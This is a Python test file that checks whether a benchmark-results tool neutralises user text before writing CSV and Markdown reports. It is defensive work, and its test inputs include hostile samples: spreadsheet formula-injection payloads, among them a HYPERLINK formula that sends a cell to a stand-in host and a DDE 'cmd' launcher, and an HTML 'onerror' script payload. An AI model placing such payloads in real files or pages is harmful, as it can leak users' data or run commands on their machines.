"""A user's text in files for other programs: no markup, no image, no link, no formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest

from cdp.base.text import escaped, spreadsheet
from cdp.base.workspace import Workspace
from cdp.results import differences, paper
from cdp.studies.text import to_markdown
from tests.services.support import evaluation
from tests.studies.support import BENCHMARKS, study

FORMULA = '=HYPERLINK("http://x.y/?"&A1,"see")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1")
PLAIN = ("0.5", "-0.5", "+1.25", "-1e-9", "−0.35", "-", "=", "", "minilm", "a=b", 0.5, -1, None, "-inf")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert spreadsheet(text) == f"'{text}"


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_and_words_stay_as_they_are(value: object) -> None:
    assert spreadsheet(value) == value


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.slow
def test_no_csv_file_holds_a_formula(workspace: Workspace) -> None:
    for i, name in enumerate((FORMULA, "@other")):
        scores = {f"q{k}": (k * 3 + i) % 10 / 10 for k in range(12)}
        evaluation(workspace, f"model-{i}", "-1+bench", scores, name=name, kind="folder")
    found = differences.compare(workspace, "model-0")
    text = paper.to_csv(found)
    assert f"'{FORMULA}" in cells(text)
    for cell in cells(text):
        assert spreadsheet(cell) == cell, cell
    assert any(float(cell) < 1 for cell in cells(text) if re.fullmatch(r"-?\d+\.\d+", cell))


HOSTILE = "<img src=x onerror=alert(1)> ![i](http://x.y/z) **b**\n\n## Fake"


@pytest.mark.slow
def test_a_studys_name_is_text_in_its_markdown() -> None:
    report = study(lambda benchmark, *_: BENCHMARKS[benchmark], name=HOSTILE)
    report = dataclasses.replace(report, name=HOSTILE)
    written = to_markdown(report)
    assert "<img" not in written
    assert not re.search(r"(?<!\\)!\[", written)
    assert "\n## Fake" not in written


def test_what_markdown_reads_is_escaped_and_nothing_is_lost() -> None:
    assert escaped("a `b` *c* [d](e) ![f](g) <h> & \\") == r"a \`b\` \*c\* \[d\](e) \!\[f\](g) &lt;h&gt; &amp; \\"
    assert escaped("hotpotqa_sample | x-1") == "hotpotqa_sample | x-1"
